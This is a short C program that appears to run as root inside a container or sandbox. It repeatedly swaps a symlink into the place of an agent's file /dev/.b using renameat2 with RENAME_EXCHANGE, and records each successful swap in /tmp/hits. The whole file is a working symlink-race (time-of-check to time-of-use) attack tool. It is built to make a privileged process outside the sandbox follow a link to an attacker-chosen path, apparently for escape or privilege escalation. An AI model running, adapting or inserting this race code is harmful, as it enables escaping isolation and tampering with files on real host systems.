/* Root of a cell that puts a link in the place of the agent's file `/dev/.b` whenever that is there. argv: where the link leads. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    struct stat found;
    for (;;) {
        unlink("/dev/.x");
        if (argc != 2 || symlink(argv[1], "/dev/.x") != 0)
            return 1;
        while (syscall(SYS_renameat2, AT_FDCWD, "/dev/.x", AT_FDCWD, "/dev/.b", 2) != 0)
            ;
        int hits = open("/tmp/hits", O_WRONLY | O_CREAT | O_APPEND, 0644);
        dprintf(hits, "exchanged\n");
        close(hits);
        while (lstat("/dev/.b", &found) == 0)
            ;
    }
}
